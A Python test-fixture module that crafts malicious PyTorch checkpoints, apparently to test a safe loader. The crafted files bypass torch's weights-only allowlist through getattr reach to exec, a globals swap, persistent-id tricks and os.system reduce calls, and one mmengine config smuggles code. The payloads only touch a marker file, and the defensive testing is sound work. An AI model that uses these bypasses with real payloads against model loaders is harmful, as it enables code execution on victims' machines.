"""Crafted malicious checkpoints, written opcode by opcode, each of which touches a marker file
if any code from it runs. Used by test_pickle_attacks.py.

- ``getattr_exec``: the attribute-reach technique against a weights-only allowlist that holds
  the real ``builtins.getattr``: ``getattr(getattr, '__self__')`` is the ``builtins`` module,
  ``getattr(builtins, 'exec')`` is ``exec``, and torch's own allowlisted
  ``torch._tensor._rebuild_from_type_v2(func, type, args, state)`` calls ``func(*args)``.
- ``globals_swap``: the same reach, then ``getattr(f, '__globals__')`` of an allowlisted torch
  function is the module's namespace; SETITEM replaces ``_get_restore_location`` there by
  ``exec``, and the allowlisted ``_rebuild_wrapper_subclass(..., device, ...)`` calls it with
  the payload as ``device``.
- ``persistent_*``: persistent ids that are no storage, or a storage whose type the reach made.
- ``reduce``: a plain ``__reduce__`` (``posix.system``) in the zip and the legacy format.
- :func:`config_payload`: a checkpoint of plain data whose ``meta['config']`` is Python that
  mmengine's ``Runner.resume`` would execute.
"""
import pickle
import struct
import sys
import zipfile
from typing import Callable, Dict

import torch

P = pickle


def _global(module: str, name: str) -> bytes:
    return P.GLOBAL + f'{module}\n{name}\n'.encode()


def _str(text: str) -> bytes:
    data = text.encode()
    return P.BINUNICODE + struct.pack('<I', len(data)) + data


def _call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` as opcodes: the callable, a MARK-ed argument tuple, REDUCE."""
    return func + P.MARK + b''.join(args) + P.TUPLE + P.REDUCE


def _getattr(obj: bytes, name: str) -> bytes:
    return _call(_global('builtins', 'getattr'), obj, _str(name))


def _exec() -> bytes:
    """``exec``, reached from the allowlisted ``getattr`` alone."""
    builtins_module = _getattr(_global('builtins', 'getattr'), '__self__')
    return _getattr(builtins_module, 'exec')


def _payload(marker: str) -> str:
    return f'open({marker!r}, "w").close()'


def getattr_exec(marker: str) -> bytes:
    rebuild = _global('torch._tensor', '_rebuild_from_type_v2')
    args = P.MARK + _str(_payload(marker)) + P.TUPLE
    return P.PROTO + b'\x02' + _call(rebuild, _exec(), P.NONE, args, P.EMPTY_DICT) + P.STOP


def globals_swap(marker: str) -> bytes:
    wrapper = _global('torch._utils', '_rebuild_wrapper_subclass')
    namespace = _getattr(wrapper, '__globals__')
    swap = namespace + _str('_get_restore_location') + _exec() + P.SETITEM
    call = _call(wrapper, *[P.NONE] * 6, _str(_payload(marker)), P.NEWFALSE)
    return P.PROTO + b'\x02' + P.MARK + swap + call + P.TUPLE + P.STOP


def persistent_module(marker: str) -> bytes:
    """A ``('module', exec)`` persistent id (the legacy loader returns data[0] for it) whose
    object the allowlisted rebuild function then calls."""
    pid = P.MARK + _str('module') + _exec() + P.TUPLE + P.BINPERSID
    rebuild = _global('torch._tensor', '_rebuild_from_type_v2')
    args = P.MARK + _str(_payload(marker)) + P.TUPLE
    return P.PROTO + b'\x02' + _call(rebuild, pid, P.NONE, args, P.EMPTY_DICT) + P.STOP


def persistent_storage_type(marker: str) -> bytes:
    """A ``('storage', exec, key, payload, 1)`` persistent id: the storage type made by the
    reach, the payload where the location goes."""
    pid = (P.MARK + _str('storage') + _exec() + _str('0') + _str(_payload(marker))
           + P.BININT1 + b'\x01' + P.TUPLE + P.BINPERSID)
    return P.PROTO + b'\x02' + pid + P.STOP


def persistent_reduce(marker: str) -> bytes:
    """A persistent id that is itself a ``__reduce__`` result."""
    system = _call(_global(_os_module(), 'system'), _str(f'touch {marker}'))
    return P.PROTO + b'\x02' + system + P.BINPERSID + P.STOP


def reduce(marker: str) -> bytes:
    return P.PROTO + b'\x02' + _call(_global(_os_module(), 'system'),
                                     _str(f'touch {marker}')) + P.STOP


def _os_module() -> str:
    return 'nt' if sys.platform == 'win32' else 'posix'


#: name -> builder of the data.pkl bytes
ATTACKS: Dict[str, Callable[[str], bytes]] = {
    'getattr_exec': getattr_exec, 'globals_swap': globals_swap,
    'persistent_module': persistent_module, 'persistent_storage_type': persistent_storage_type,
    'persistent_reduce': persistent_reduce, 'reduce': reduce}


def write_zip(path: str, data_pkl: bytes) -> None:
    """A file in torch's zip format (what ``torch.save`` writes) whose pickle is ``data_pkl``."""
    torch.save({'w': torch.ones(2)}, path)
    with zipfile.ZipFile(path) as src:
        records = {name: src.read(name) for name in src.namelist()}
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for name, data in records.items():
            dst.writestr(name, data_pkl if name.endswith('/data.pkl') else data)


def write_legacy(path: str, data_pkl: bytes) -> None:
    """A file in torch's legacy (pre-1.6) format: magic, protocol, system info, the object's
    pickle, the (empty) list of storages."""
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION
    info = dict(protocol_version=PROTOCOL_VERSION, little_endian=sys.byteorder == 'little',
                type_sizes=dict(short=2, int=4, long=4))
    with open(path, 'wb') as f:
        for value in (MAGIC_NUMBER, PROTOCOL_VERSION, info):
            pickle.dump(value, f, protocol=2)
        f.write(data_pkl)
        pickle.dump([], f, protocol=2)


def config_payload(path: str, marker: str, epoch: int = 1, iteration: int = 2) -> None:
    """A resumable checkpoint of tensors and strings only, whose ``meta['config']`` is code."""
    hub = dict(log_scalars={}, runtime_info={}, resumed_keys={})
    torch.save(dict(meta=dict(epoch=epoch, iter=iteration,
                              config=f'{_payload(marker)}\ngpu_ids = [0]\n'),
                    state_dict={}, message_hub=hub), path)
